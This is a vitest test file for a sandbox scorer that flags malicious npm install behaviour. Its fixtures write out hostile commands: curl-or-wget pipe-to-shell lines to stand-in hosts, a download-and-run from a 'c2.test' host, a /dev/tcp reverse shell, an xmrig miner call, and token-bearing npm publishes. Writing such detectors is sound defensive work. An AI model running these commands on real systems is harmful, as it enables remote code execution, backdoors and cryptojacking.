import { describe, expect, it } from 'vitest';
import type { SandboxReport } from '@airlock/core';
import { scoreReport } from '../src/index.js';
import { connect, dns, httpRequest, proc, reportWith, script, T0, tcp, write } from './helpers.js';

const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule);

describe('pipe-to-shell', () => {
  it('is conclusive for a postinstall `curl ... | sh`, listed once', () => {
    const command = 'curl -s http://stage2.test/p.sh | sh';
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['sh', '-c', command], { attribution: script('postinstall', command) }),
          proc(['curl', '-s', 'http://stage2.test/p.sh']),
        ],
      }),
    );
    expect(v.verdict).toBe('malicious');
    const pipe = v.reasons.find((r) => r.rule === 'pipe-to-shell')!;
    expect(pipe.conclusive).toBe(true);
    expect(pipe.evidence).toHaveLength(1);
    expect(pipe.evidence[0]).toMatchObject({ section: 'processes', index: 0, detail: `sh -c ${command}` });
  });

  it('matches $(wget ...) and <(curl ...) forms, not a plain download', () => {
    const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash <(curl -fsSL https://x.test/i)'], { attribution: null })] }));
    expect(rules(v)).toEqual(['pipe-to-shell']);
    const substituted = scoreReport(
      reportWith({ processes: [proc(['sh', '-c', 'sh -c "$(wget -qO- http://x.test/s)"'], { attribution: null })] }),
    );
    expect(rules(substituted)).toEqual(['pipe-to-shell']);
    const echoed = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'echo $(curl -s http://ip.test)'], { attribution: null })] }));
    expect(echoed.reasons).toEqual([]);
    const plain = scoreReport(
      reportWith({ processes: [proc(['curl', '-o', 'out.tgz', 'https://x.test/a.tgz'], { attribution: script('install', 'x') })] }),
    );
    expect(rules(plain)).toEqual(['lifecycle-shell']);
  });
});

describe('download-execute', () => {
  it('is conclusive when curl writes /tmp/ld.py and python runs it', () => {
    const curl = proc(['curl', '-o', '/tmp/ld.py', 'http://c2.test/ld.py'], { pid: 200, time: T0 + 1 });
    const python = proc(['python3', '/tmp/ld.py'], { pid: 201, time: T0 + 3, path: '/usr/bin/python3.11' });
    const v = scoreReport(reportWith({ processes: [curl, python], fileWrites: [write('/tmp/ld.py', { pid: 200, time: T0 + 2 })] }));
    expect(v.verdict).toBe('malicious');
    const hit = v.reasons.find((r) => r.rule === 'download-execute')!;
    expect(hit.evidence.map((e) => [e.section, e.index, e.path])).toEqual([
      ['fileWrites', 0, '/tmp/ld.py'],
      ['processes', 1, '/usr/bin/python3.11'],
    ]);
  });

  it('is only weighed when the download lands in the package folder and runs there', () => {
    const node = proc(['node', 'install.js'], { pid: 210, time: T0 + 1 });
    const binary = '/home/jordan/projects/app/node_modules/demo/bin/tool';
    const run = proc([binary, '-o', 'out.png', 'in.png'], { pid: 211, time: T0 + 4, path: binary });
    const v = scoreReport(
      reportWith({ processes: [node, run], fileWrites: [write(binary, { pid: 210, time: T0 + 3 })], connections: [connect(210, 443)] }),
    );
    expect(rules(v)).toEqual(['download-execute.own-folder']);
    expect(v.verdict).toBe('suspicious');
    expect(v.score).toBe(35);
    // The host it came from is that download's source, weighed once; another host is egress of its own.
    const network = { dns: [dns('example.test'), dns('c2.test')], tcp: [tcp('example.test', 443)], udp: [] };
    const withNetwork = scoreReport(
      reportWith({
        processes: [node, run],
        fileWrites: [write(binary, { pid: 210, time: T0 + 3 })],
        connections: [connect(210, 443)],
        network,
      }),
    );
    expect(rules(withNetwork)).toEqual(['download-execute.own-folder', 'network-egress']);
    expect(withNetwork.reasons[1]!.evidence.map((e) => e.destination)).toEqual(['c2.test']);
  });

  it('does not weigh a binary downloaded into the package folder that is only asked its version (bin-check), directly or through the shell', () => {
    const node = proc(['node', 'install.js'], { pid: 214, time: T0 + 1 });
    const binary = '/home/jordan/projects/app/node_modules/demo/vendor/gifsicle';
    const writes = [write(binary, { pid: 214, time: T0 + 3 })];
    const connections = [connect(214, 443)];
    const asked = (argv: string[], path: string, result = 'ok') => proc(argv, { pid: 215, time: T0 + 4, path, result });
    for (const probe of ['--version', '-version', '-V']) {
      const direct = scoreReport(reportWith({ processes: [node, asked([binary, probe], binary)], fileWrites: writes, connections }));
      expect(rules(direct)).toEqual([]);
      // The fake internet's answer is no binary: libc's shell fallback runs it with the same flag.
      const fallback = scoreReport(
        reportWith({
          processes: [node, asked([binary, probe], binary, 'ENOEXEC'), asked(['/bin/sh', binary, probe], '/bin/sh')],
          fileWrites: writes,
          connections,
        }),
      );
      expect(rules(fallback)).toEqual([]);
    }
    // Asked its version and then run to work: counted. A version flag with more arguments is work too.
    const thenRun = proc([binary, '-o', 'out.gif', 'in.gif'], { pid: 216, time: T0 + 5, path: binary });
    expect(
      rules(scoreReport(reportWith({ processes: [node, asked([binary, '--version'], binary), thenRun], fileWrites: writes, connections }))),
    ).toEqual(['download-execute.own-folder']);
    expect(
      rules(
        scoreReport(reportWith({ processes: [node, asked([binary, '--version', '&&', 'x'], binary)], fileWrites: writes, connections })),
      ),
    ).toEqual(['download-execute.own-folder']);
    // Outside the package's folder a version flag changes nothing: a second stage, conclusive.
    const tmp = '/tmp/gifsicle';
    const outside = scoreReport(
      reportWith({ processes: [node, asked([tmp, '--version'], tmp)], fileWrites: [write(tmp, { pid: 214, time: T0 + 3 })], connections }),
    );
    expect(rules(outside)).toEqual(['download-execute']);
  });

  it("treats a dependency's own node_modules folder as its own: esbuild's script moving its binary into bin/ and running it", () => {
    // The writing script's package (attribution `demo`) puts a file in node_modules/demo/ and runs it.
    const node = proc(['node', 'install.js'], { pid: 220, time: T0 + 1 });
    const binary = '/home/jordan/projects/app/node_modules/demo/bin/demo';
    const run = proc([binary, '--version'], { pid: 221, time: T0 + 4, path: binary });
    const moved = write(binary, { pid: 220, time: T0 + 3, operation: 'rename', source: `${binary}-tmp` });
    expect(rules(scoreReport(reportWith({ processes: [node, run], fileWrites: [moved] })))).toEqual([]);
    // Another package's folder is not its own: a dropped file there still counts.
    const other = '/home/jordan/projects/app/node_modules/other/bin/other';
    const dropped = write(other, { pid: 220, time: T0 + 3 });
    const runOther = proc([other], { pid: 222, time: T0 + 4, path: other });
    expect(rules(scoreReport(reportWith({ processes: [node, runOther], fileWrites: [dropped] })))).toEqual(['dropped-file-execute']);
  });

  it("does not count libc's `/bin/sh FILE` fallback after an ENOEXEC exec as a second, lifecycle shell", () => {
    const node = proc(['node', 'install.js'], { pid: 212, time: T0 + 1 });
    const binary = '/home/jordan/projects/app/node_modules/demo/bin/tool';
    const tried = proc([binary, 'in.png'], { pid: 213, time: T0 + 4, path: binary, result: 'ENOEXEC' });
    const fallback = proc(['/bin/sh', binary, 'in.png'], { pid: 213, time: T0 + 4.001, path: '/bin/sh' });
    const v = scoreReport(
      reportWith({
        processes: [node, tried, fallback],
        fileWrites: [write(binary, { pid: 212, time: T0 + 3 })],
        connections: [connect(212, 443)],
      }),
    );
    expect(rules(v)).toEqual(['download-execute.own-folder']);
    expect(v.score).toBe(35);
    // The same shell in another process, or for another file, is a shell of its own.
    const other = proc(['/bin/sh', '/tmp/other.sh'], { pid: 213, time: T0 + 5, path: '/bin/sh' });
    expect(rules(scoreReport(reportWith({ processes: [node, tried, other] })))).toEqual(['lifecycle-shell']);
  });

  it('leaves out what a build runs: ./configure unpacked to /tmp, its conftest, but not a curl download run under make', () => {
    const node = proc(['node', 'lib/install.js'], { pid: 240, time: T0 + 1 });
    const configure = proc(['./configure', '--disable-shared'], { pid: 241, time: T0 + 5, path: '/tmp/src/configure', ppid: 240 });
    const conftest = proc(['./conftest'], { pid: 242, time: T0 + 6, path: '/tmp/src/conftest', ppid: 241 });
    const tree = {
      install: {
        nodes: [
          { pid: 240, parent: null, startTime: T0 + 1, execs: [{ argv: node.argv }] },
          { pid: 241, parent: 0, startTime: T0 + 5, execs: [{ argv: configure.argv }] },
          { pid: 242, parent: 1, startTime: T0 + 6, execs: [{ argv: conftest.argv }] },
        ],
      },
      import: null,
    } as unknown as SandboxReport['processTree'];
    const writes = [write('/tmp/src/configure', { pid: 240, time: T0 + 3 }), write('/tmp/src/conftest', { pid: 241, time: T0 + 5.5 })];
    expect(
      rules(
        scoreReport(
          reportWith({ processes: [node, configure, conftest], processTree: tree, fileWrites: writes, connections: [connect(240, 443)] }),
        ),
      ),
    ).toEqual([]);
    // curl's download is a download wherever it runs.
    const curl = proc(['curl', '-o', '/tmp/src/stage2', 'http://x.test/s'], { pid: 243, time: T0 + 7, ppid: 241 });
    const stage2 = proc(['/tmp/src/stage2'], { pid: 244, time: T0 + 8, path: '/tmp/src/stage2', ppid: 241 });
    const v = scoreReport(
      reportWith({
        processes: [node, configure, curl, stage2],
        processTree: tree,
        fileWrites: [write('/tmp/src/stage2', { pid: 243, time: T0 + 7.5 })],
      }),
    );
    expect(rules(v)).toContain('download-execute');
  });

  it('weighs a dropped script outside the package folder that is run without a download', () => {
    const node = proc(['node', 'install.js'], { pid: 220, time: T0 + 1 });
    const run = proc(['sh', '/tmp/x.sh'], { pid: 221, time: T0 + 4, attribution: script('postinstall', 'node install.js') });
    const v = scoreReport(reportWith({ processes: [node, run], fileWrites: [write('/tmp/x.sh', { pid: 220 })] }));
    expect(rules(v)).toEqual(['dropped-file-execute', 'lifecycle-shell']);
    expect(v.score).toBe(65);
  });

  it('ignores files npm extracted and a compiler handing its temp file to the assembler', () => {
    const npm = proc(['node', 'npm-cli.js', 'install'], { pid: 230, attribution: null });
    const runScript = proc(['node', '/home/jordan/projects/app/node_modules/demo/install.js'], { pid: 231, time: T0 + 5 });
    const as = proc(['as', '-o', '/tmp/cc1.o', '/tmp/cc1.s'], { pid: 232, time: T0 + 6 });
    const v = scoreReport(
      reportWith({
        processes: [npm, runScript, as],
        fileWrites: [
          write('/home/jordan/projects/app/node_modules/demo/install.js', { pid: 230 }),
          write('/tmp/cc1.s', { pid: 231, time: T0 + 5.5 }),
        ],
      }),
    );
    expect(v.reasons).toEqual([]);
  });
});

describe('lifecycle-shell', () => {
  it("fires on bash started by a postinstall script but not on npm's own `sh -c <script>`", () => {
    const runner = proc(['sh', '-c', 'node install.js']);
    const bash = proc(['bash', '-c', 'uname -a']);
    const v = scoreReport(reportWith({ processes: [runner, bash] }));
    expect(rules(v)).toEqual(['lifecycle-shell']);
    expect(v.reasons[0]!.evidence.map((e) => e.index)).toEqual([1]);
    expect(v.verdict).toBe('suspicious');
    expect(v.score).toBe(25);
  });

  it('ignores shells from the import phase and from npm itself', () => {
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['sh', '-c', 'ls'], { attribution: script('import', null), phase: 'import' }),
          proc(['sh', '-c', 'git --version'], { attribution: null }),
        ],
      }),
    );
    expect(v.reasons).toEqual([]);
  });
});

describe('lifecycle-shell: shells that only run build tools', () => {
  const gyp = script('install', 'node-gyp-build');
  it('ignores npm\'s node-gyp shim, `sh -c node-gyp-build-test`, `sh -c "prebuild-install || node-gyp rebuild"` and autotools', () => {
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['sh', '/usr/local/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin/node-gyp', 'rebuild'], {
            attribution: gyp,
          }),
          proc(['/bin/sh', '-c', 'node-gyp-build-test'], { path: '/bin/sh', attribution: gyp }),
          proc(['/bin/sh', '-c', 'prebuild-install -r napi || node-gyp rebuild'], {
            path: '/bin/sh',
            attribution: script('install', 'node install.js'),
          }),
          proc(['/bin/sh', '-c', 'autoreconf -ivf'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
          proc(['/bin/sh', '-c', 'CFLAGS=-O2 ./configure --prefix=/x && make install'], {
            path: '/bin/sh',
            attribution: script('postinstall', 'node lib/install.js'),
          }),
        ],
      }),
    );
    expect(v.reasons).toEqual([]);
  });

  it('ignores a step of a build recipe (its parent also runs ./configure) and an interpreter asked for its version', () => {
    const node = proc(['node', 'lib/install.js'], { pid: 300, time: T0 + 1 });
    const rm = proc(['/bin/sh', '-c', 'rm ./INSTALL'], { pid: 301, ppid: 300, time: T0 + 2, path: '/bin/sh' });
    const configure = proc(['/bin/sh', '-c', './configure --prefix=/x'], { pid: 302, ppid: 300, time: T0 + 3, path: '/bin/sh' });
    expect(rules(scoreReport(reportWith({ processes: [node, rm, configure] })))).toEqual([]);
    // Without the build sibling the same shell counts.
    expect(rules(scoreReport(reportWith({ processes: [node, rm] })))).toEqual(['lifecycle-shell']);
    expect(rules(scoreReport(reportWith({ processes: [proc(['python3', '--version'])] })))).toEqual([]);
    expect(rules(scoreReport(reportWith({ processes: [proc(['python3', '-c', 'import os'])] })))).toEqual(['lifecycle-shell']);
  });

  it('ignores a shell that only asks one program on PATH for its version (libc detection, a CLI self-check)', () => {
    const attribution = script('postinstall', 'node scripts/postinstall.js');
    const shell = (command: string) => proc(['/bin/sh', '-c', command], { path: '/bin/sh', attribution });
    for (const command of ['ldd --version', 'prisma -v', 'go version']) {
      expect(rules(scoreReport(reportWith({ processes: [shell(command)] }))), command).toEqual([]);
    }
    // Reconnaissance, a path, a second word or anything a shell adds still counts.
    for (const command of [
      'whoami',
      'uname -a',
      './payload --version',
      '/tmp/x -v',
      'node -v; id',
      'curl -v http://x.test',
      'ldd --version | sh',
    ]) {
      expect(rules(scoreReport(reportWith({ processes: [shell(command)] }))), command).toContain('lifecycle-shell');
    }
  });

  it('still fires when the script also runs something else, pipes, substitutes or redirects', () => {
    const attribution = script('install', 'node install.js');
    for (const command of [
      'node-gyp rebuild; curl -s http://x.test/a',
      'make && whoami',
      'node-gyp-build-test | tee /tmp/x',
      'make $(cat /tmp/t)',
      'make > ~/.profile',
      'node-gyp-builder',
    ]) {
      const v = scoreReport(reportWith({ processes: [proc(['/bin/sh', '-c', command], { path: '/bin/sh', attribution })] }));
      expect(rules(v), command).toContain('lifecycle-shell');
    }
    const script2 = scoreReport(
      reportWith({ processes: [proc(['sh', '/home/jordan/projects/app/node_modules/demo/evil.sh'], { attribution })] }),
    );
    expect(rules(script2)).toEqual(['lifecycle-shell']);
  });
});

describe('reverse-shell.command', () => {
  it('is conclusive on bash -i with /dev/tcp', () => {
    const v = scoreReport(
      reportWith({ processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { attribution: null })] }),
    );
    expect(v.verdict).toBe('malicious');
    expect(rules(v)).toEqual(['reverse-shell.command']);
  });

  it('does not fire on ssh -i or plain nc -z probes', () => {
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['ssh', '-i', 'key', 'host'], { attribution: null }),
          proc(['nc', '-z', 'localhost', '80'], { attribution: null }),
        ],
      }),
    );
    expect(v.reasons).toEqual([]);
  });
});

describe('self-propagation.npm-publish', () => {
  it('fires on npm publish run by a script', () => {
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public'], { path: '/usr/local/bin/node' }),
        ],
      }),
    );
    expect(rules(v)).toEqual(['self-propagation.npm-publish']);
    expect(v.verdict).toBe('malicious');
    expect(v.score).toBe(80);
  });

  it('fires on a PUT of a package to the npm registry API with a token (publishing without npm)', () => {
    const put = httpRequest('registry.npmjs.org', 'PUT', '/victim-pkg', '{"name":"victim-pkg"}', [['Authorization', 'Bearer npm_x']]);
    expect(rules(scoreReport(reportWith({ network: { dns: [], tcp: [put], udp: [] } })))).toContain('self-propagation.npm-publish');
    const anonymous = httpRequest('registry.npmjs.org', 'GET', '/victim-pkg');
    expect(rules(scoreReport(reportWith({ network: { dns: [], tcp: [anonymous], udp: [] } })))).not.toContain(
      'self-propagation.npm-publish',
    );
  });

  it('does not fire on npm install run by npm itself', () => {
    expect(scoreReport(reportWith({ processes: [proc(['npm', 'install', 'publish-tools'], { attribution: null })] })).reasons).toEqual([]);
  });
});

describe('mining.miner-binary', () => {
  it('fires on xmrig in argv', () => {
    const v = scoreReport(reportWith({ processes: [proc(['/tmp/.x/xmrig', '-o', 'stratum+tcp://p.test:3333'], { attribution: null })] }));
    expect(rules(v)).toEqual(['mining.miner-binary']);
    expect(v.score).toBe(80);
  });

  it('does not fire on an unrelated binary', () => {
    expect(scoreReport(reportWith({ processes: [proc(['/usr/bin/xz', '-d'], { attribution: null })] })).reasons).toEqual([]);
  });
});
